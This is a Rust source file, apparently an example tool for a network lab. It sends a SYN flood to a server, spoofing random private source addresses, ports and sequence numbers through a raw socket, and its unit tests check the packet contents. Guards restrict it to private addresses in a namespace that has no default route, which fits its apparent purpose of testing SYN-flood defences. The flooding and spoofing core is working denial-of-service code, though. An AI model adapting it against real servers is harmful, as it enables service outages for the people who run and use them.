//! A SYN flood from invented sources, for the lab only.
//!
//! ```text
//! testenv/testenv.sh exec --name=lab -- target/release/examples/flood \
//!     --server 10.11.1.1:80 --sources 10.128.0.0/9 --seconds 5 [--rate 200000]
//! ```
//!
//! Every SYN has a random source address of the range, a random port and a
//! random sequence number, the options that Linux sends, and right checksums.
//! It ends by itself, or before at a line on stdin, and says on stdout:
//!
//! ```text
//! done packets=2412544 seconds=5.000 packets_per_s=482499 refused=0
//! ```
//!
//! `refused` counts what the kernel did not take for want of room. It refuses to
//! run where there is a default route, as the lab's namespace has none, and sends
//! to private addresses on the link only (`MSG_DONTROUTE`).

use clap::Parser;
use etherparse::{IpNumber, Ipv4Header, TcpHeader, TcpOptionElement};
use rustix::io::Errno;
use rustix::net::{
    AddressFamily, MMsgHdr, SendAncillaryBuffer, SendFlags, SocketAddrAny, SocketFlags, SocketType,
    ipproto, sendmmsg, socket_with,
};
use std::io::{self, IoSlice};
use std::net::{Ipv4Addr, SocketAddrV4};
use std::os::fd::OwnedFd;
use std::process::ExitCode;
use std::sync::mpsc;
use std::time::{Duration, Instant};

/// SYNs handed to the kernel at a time.
const BATCH: usize = 64;
/// Ports that a client may have.
const PORTS: std::ops::Range<u16> = 1024..u16::MAX;
/// Where fields are in a SYN: IPv4 has no options here.
const SOURCE_AT: usize = 12;
const PORT_AT: usize = 20;
const NUMBER_AT: usize = 24;
const TCP_CHECKSUM_AT: usize = 36;

/// Sends SYNs with invented private sources to a server on the same link, from
/// within a network namespace.
#[derive(Parser)]
#[command(name = "flood", max_term_width = 100)]
struct Cli {
    /// Whom to flood: a private address on a link of this namespace
    #[arg(long, value_name = "ADDRESS:PORT")]
    server: SocketAddrV4,

    /// Sources to invent, a private range that nobody here has
    #[arg(long, value_name = "ADDRESS/PREFIX", default_value = "10.128.0.0/9", value_parser = parse_range)]
    sources: Range,

    /// How long
    #[arg(long, value_name = "SECONDS", default_value_t = 5, value_parser = clap::value_parser!(u64).range(1..=600))]
    seconds: u64,

    /// SYNs a second at most [default: as many as there can be]
    #[arg(long, value_name = "N")]
    rate: Option<u64>,

    /// The random choices follow from this
    #[arg(long, value_name = "N", default_value_t = 1)]
    seed: u64,
}

/// A range of addresses, as network and the bits that are free in it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
struct Range {
    network: u32,
    free: u32,
}

fn parse_range(text: &str) -> Result<Range, String> {
    let (address, prefix) = text.split_once('/').ok_or("a prefix length is missing")?;
    let address: Ipv4Addr = address.parse().map_err(|error| format!("{error}"))?;
    let prefix: u32 = prefix.parse().map_err(|error| format!("{error}"))?;
    if !(8..=32).contains(&prefix) || !address.is_private() {
        return Err("a private network with a prefix of 8 to 32 bits is needed".to_owned());
    }
    let free = u32::MAX.checked_shr(prefix).unwrap_or(0);
    let network = u32::from(address) & !free;
    let last = Ipv4Addr::from(network | free);
    if !Ipv4Addr::from(network).is_private() || !last.is_private() {
        return Err("all of the range must be private".to_owned());
    }
    Ok(Range { network, free })
}

fn main() -> ExitCode {
    match run(&Cli::parse()) {
        Ok(()) => ExitCode::SUCCESS,
        Err(error) => {
            eprintln!("flood: {error}");
            ExitCode::FAILURE
        }
    }
}

fn run(cli: &Cli) -> io::Result<()> {
    if !cli.server.ip().is_private() {
        return Err(io::Error::other("the server's address isn't private"));
    }
    if leads_elsewhere(&std::fs::read_to_string("/proc/self/net/route")?) {
        return Err(io::Error::other(
            "there is a default route here: run it in the lab's namespace",
        ));
    }
    let socket = socket_with(
        AddressFamily::INET,
        SocketType::RAW,
        SocketFlags::CLOEXEC,
        Some(ipproto::RAW),
    )?;
    let mut random = fastrand::Rng::with_seed(cli.seed);
    let mut syns = vec![Syn::new(*cli.server.ip(), cli.server.port()); BATCH];
    let start = Instant::now();
    let end = start + Duration::from_secs(cli.seconds);
    let (mut packets, mut refused) = (0, 0);
    let order = order();
    while Instant::now() < end && order.try_recv().is_err() {
        for syn in &mut syns {
            let source = cli.sources.network | random.u32(..) & cli.sources.free;
            syn.vary(source, random.u16(PORTS), random.u32(..));
        }
        let sent = send(&socket, &cli.server, &syns)?;
        packets += sent as u64;
        refused += (BATCH - sent) as u64;
        if let Some(rate) = cli.rate {
            let due = Duration::from_secs_f64(packets as f64 / rate.max(1) as f64);
            std::thread::sleep(due.saturating_sub(start.elapsed()).min(end - start));
        }
    }
    let seconds = start.elapsed().as_secs_f64();
    println!(
        "done packets={packets} seconds={seconds:.3} packets_per_s={:.0} refused={refused}",
        packets as f64 / seconds
    );
    Ok(())
}

/// Something is received when a line comes on stdin; its end is no line.
fn order() -> mpsc::Receiver<()> {
    let (tell, order) = mpsc::channel();
    std::thread::spawn(move || {
        let mut line = String::new();
        if io::stdin()
            .read_line(&mut line)
            .is_ok_and(|bytes| bytes > 0)
        {
            let _ = tell.send(());
        }
    });
    order
}

/// Whether there is a default route in a table as proc_net(5) has it.
fn leads_elsewhere(routes: &str) -> bool {
    let mut destinations = routes.lines().map(|line| line.split_whitespace().nth(1));
    destinations.any(|destination| destination == Some("00000000"))
}

/// Sends all, or as many as there is room for; how many.
fn send(socket: &OwnedFd, server: &SocketAddrV4, syns: &[Syn]) -> io::Result<usize> {
    let to = SocketAddrAny::from(*server);
    let slices: [_; BATCH] = std::array::from_fn(|i| [IoSlice::new(&syns[i].packet)]);
    let mut controls: [_; BATCH] = std::array::from_fn(|_| SendAncillaryBuffer::default());
    let mut messages: Vec<_> = slices
        .iter()
        .zip(&mut controls)
        .map(|(slice, control)| MMsgHdr::new_with_addr(&to, slice, control))
        .collect();
    match sendmmsg(socket, &mut messages, SendFlags::DONTROUTE) {
        Ok(sent) => Ok(sent),
        Err(Errno::NOBUFS | Errno::AGAIN) => Ok(0),
        Err(error) => Err(error.into()),
    }
}

/// A SYN as an IPv4 packet.
#[derive(Clone)]
struct Syn {
    packet: Vec<u8>,
    /// Sum of the TCP checksum's words that [`Syn::vary`] leaves as they are.
    fixed_sum: u32,
}

impl Syn {
    /// To `server`, from nowhere yet.
    fn new(server: Ipv4Addr, port: u16) -> Syn {
        let mut tcp = TcpHeader::new(0, port, 0, 64_240);
        tcp.syn = true;
        let options = [
            TcpOptionElement::MaximumSegmentSize(1_460),
            TcpOptionElement::SelectiveAcknowledgementPermitted,
            TcpOptionElement::Timestamp(1, 0),
            TcpOptionElement::Noop,
            TcpOptionElement::WindowScale(7),
        ];
        tcp.set_options(&options).expect("options that fit");
        let ip = Ipv4Header::new(
            tcp.header_len_u16(),
            64,
            IpNumber::TCP,
            [0; 4],
            server.octets(),
        )
        .expect("a short packet");
        // The kernel fills in the IP header's checksum (raw(7)).
        let mut packet = ip.to_bytes().to_vec();
        packet.extend_from_slice(&tcp.to_bytes());
        let segment = &packet[Ipv4Header::MIN_LEN..];
        let pseudo = [0, IpNumber::TCP.0, 0, segment.len() as u8];
        let fixed_sum = sum(&server.octets()) + sum(&pseudo) + sum(segment);
        Syn { packet, fixed_sum }
    }

    /// Gives it another source and number, and the checksum that goes with them
    /// (RFC 1071).
    fn vary(&mut self, source: u32, port: u16, number: u32) {
        let (source, port, number) = (
            source.to_be_bytes(),
            port.to_be_bytes(),
            number.to_be_bytes(),
        );
        let mut total = self.fixed_sum + sum(&source) + sum(&port) + sum(&number);
        while total > 0xffff {
            total = (total & 0xffff) + (total >> 16);
        }
        let checksum = (!(total as u16)).to_be_bytes();
        let mut put = |at: usize, bytes: &[u8]| {
            self.packet[at..at + bytes.len()].copy_from_slice(bytes);
        };
        put(SOURCE_AT, &source);
        put(PORT_AT, &port);
        put(NUMBER_AT, &number);
        put(TCP_CHECKSUM_AT, &checksum);
    }
}

/// The sum of 16-bit words in network order; `bytes` are whole words.
fn sum(bytes: &[u8]) -> u32 {
    let words = bytes.chunks_exact(2);
    words
        .map(|word| u32::from(u16::from_be_bytes([word[0], word[1]])))
        .sum()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_syn_is_what_it_should_be() {
        let mut random = fastrand::Rng::with_seed(7);
        let mut syn = Syn::new([10, 11, 1, 1].into(), 80);
        for _ in 0..1_000 {
            let (source, port, number) = (random.u32(..), random.u16(..), random.u32(..));
            syn.vary(source, port, number);
            let (ip, rest) = Ipv4Header::from_slice(&syn.packet).expect("IPv4");
            let (tcp, payload) = TcpHeader::from_slice(rest).expect("TCP");
            assert_eq!(ip.source, source.to_be_bytes());
            assert_eq!(ip.destination, [10, 11, 1, 1]);
            assert_eq!((tcp.source_port, tcp.destination_port), (port, 80));
            assert_eq!(
                (tcp.sequence_number, tcp.syn, tcp.ack),
                (number, true, false)
            );
            assert_eq!(tcp.calc_checksum_ipv4(&ip, payload), Ok(tcp.checksum));
            assert!(payload.is_empty());
        }
    }

    #[test]
    fn a_default_route_is_seen() {
        let link = "Iface\tDestination\tGateway\nveth0\t00010B0A\t00000000\n";
        assert!(!leads_elsewhere(link));
        assert!(leads_elsewhere(&format!(
            "{link}veth0\t00000000\t01010B0A\n"
        )));
    }

    #[test]
    fn only_private_ranges_are_taken() {
        let range = |network: [u8; 4], free| Range {
            network: u32::from_be_bytes(network),
            free,
        };
        assert_eq!(
            parse_range("10.128.0.0/9"),
            Ok(range([10, 128, 0, 0], 0x7f_ffff))
        );
        assert_eq!(parse_range("10.1.2.3/32"), Ok(range([10, 1, 2, 3], 0)));
        assert_eq!(
            parse_range("192.168.7.9/16"),
            Ok(range([192, 168, 0, 0], 0xffff))
        );
        for text in [
            "10.0.0.0",
            "10.0.0.0/7",
            "8.8.8.0/24",
            "192.168.0.0/8",
            "x/9",
        ] {
            assert!(parse_range(text).is_err(), "{text}");
        }
    }
}
